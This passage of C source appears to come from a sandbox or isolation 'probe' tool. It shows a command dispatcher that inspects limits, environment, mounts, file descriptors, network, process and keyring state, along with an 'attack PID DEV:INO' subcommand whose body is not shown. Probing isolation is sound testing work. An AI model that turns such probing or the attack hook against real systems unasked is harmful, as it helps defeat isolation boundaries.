	printf("keyring_id=%ld\n", syscall(SYS_keyctl, PROBE_KEYCTL_GET_KEYRING_ID, PROBE_KEY_SPEC_SESSION_KEYRING, 0));
	return 0;
}

static int run(const char *cmd, int argc, char **argv)
{
	if (strcmp(cmd, "rlimit") == 0)
		return argc ? cmd_rlimit(argc, argv) : usage_error("usage: rlimit NAME...", NULL);
	if (strcmp(cmd, "attack") == 0)
		return argc == 2 ? cmd_attack(argv[0], argv[1])
				 : usage_error("usage: attack PID DEV:INO", NULL);
	if (strcmp(cmd, "write") == 0)
		return argc == 2 ? cmd_write(argv[0], argv[1])
				 : usage_error("usage: write PATH TEXT", NULL);
	for (size_t i = 0; i < ARRAY_LEN(one_arg_cmds); i++)
		if (strcmp(cmd, one_arg_cmds[i].name) == 0)
			return argc == 1 ? one_arg_cmds[i].fn(argv[0])
					 : usage_error("takes exactly one argument", cmd);
	if (argc != 0)
		return usage_error("takes no arguments or is unknown", cmd);
	if (strcmp(cmd, "all") == 0)
		return cmd_all();
	if (strcmp(cmd, "env") == 0)
		return cmd_env();
	if (strcmp(cmd, "mounts") == 0)
		return cmd_cat("/proc/self/mountinfo");
	if (strcmp(cmd, "fds") == 0)
		return cmd_fds();
	if (strcmp(cmd, "net") == 0)
		return cmd_net();
	if (strcmp(cmd, "proc") == 0)
		return cmd_proc();
	if (strcmp(cmd, "session") == 0)
		return cmd_session();
	return usage_error("unknown command", cmd);
}

int main(int argc, char **argv)
{
	int rc = argc < 2 ? run("all", 0, NULL) : run(argv[1], argc - 2, argv + 2);

	if (fflush(stdout) != 0 || ferror(stdout)) {
		fprintf(stderr, "probe: writing stdout: %s\n", strerror(errno));
		return rc ? rc : 1;
	}
	return rc;
}
